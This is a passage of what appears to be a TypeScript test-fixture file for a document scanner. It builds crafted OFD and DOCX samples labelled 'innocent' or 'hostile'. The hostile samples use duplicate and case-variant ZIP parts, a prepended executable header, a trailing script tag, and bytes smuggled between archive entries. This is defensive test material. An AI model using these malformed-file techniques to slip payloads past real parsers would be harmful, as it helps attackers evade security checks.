        'Doc_0/Res/image_1.png': png,
        'Doc_0/Res/font_1.ttf': Buffer.from('00010000000a0080', 'hex'),
        'Doc_0/Res/font_2.otf': Buffer.from('OTTO\0\u0001', 'latin1'),
        'Doc_0/Annots/Annotations.xml': `<ofd:Annotations ${OFD}/>`,
        'Doc_0/Tags/CustomTags.xml': `<ofd:CustomTags ${OFD}/>`,
        'Doc_0/Signs/Signatures.xml': `<ofd:Signatures ${OFD}/>`,
        'Doc_0/Signs/Sign_0/Signature.xml': `<ofd:Signature ${OFD}/>`,
        'Doc_0/Signs/Sign_0/Seal.esl': Buffer.from('3082010a', 'hex'),
        'Doc_0/Signs/Sign_0/SignedValue.dat': Buffer.from('3082010a', 'hex'),
      },
      '',
      '<ofd:Signatures>/Doc_0/Signs/Signatures.xml</ofd:Signatures>',
    ),
  ),
  'OFD：网页链接和跳转': ofd('innocent', () =>
    ofdOf(
      {},
      action('<ofd:URI URI="https://www.example.gov.cn/"/>') +
        action('<ofd:Goto><ofd:Dest Type="Fit" PageID="1"/></ofd:Goto>'),
    ),
  ),
};

const twice = (): Uint8Array => {
  const bytes = Buffer.from(wordOf({ more: { 'word/documenu.xml': '<w/>' } }));
  const text = bytes.toString('latin1').replaceAll('word/documenu.xml', 'word/document.xml');
  return Buffer.from(text, 'latin1');
};

export const office: CraftedSet = {
  ...words,
  ...books,
  ...ofds,
  '压缩包：同名的两个部件': docx('hostile', twice),
  '压缩包：大小写不同的两个部件': docx('hostile', () =>
    wordOf({ more: { 'Word/Document.xml': '<w/>' } }),
  ),
  '压缩包：前面是程序': docx('hostile', () =>
    Buffer.concat([Buffer.from('MZ\u0090\0', 'latin1'), wordOf({})]),
  ),
  '压缩包：后面接着别的内容': docx('hostile', () =>
    Buffer.concat([wordOf({}), Buffer.from('<script>alert(1)</script>')]),
  ),
  '压缩包：部件之间夹着别的内容': docx('hostile', () => {
    const bytes = Buffer.from(wordOf({}));
    const at = bytes.indexOf(Buffer.from('PK\u0001\u0002', 'latin1'));
    const end = bytes.length - 22;
    bytes.writeUInt32LE(bytes.readUInt32LE(end + 16) + 5, end + 16);
    return Buffer.concat([bytes.subarray(0, at), Buffer.from('hello'), bytes.subarray(at)]);
  }),
};
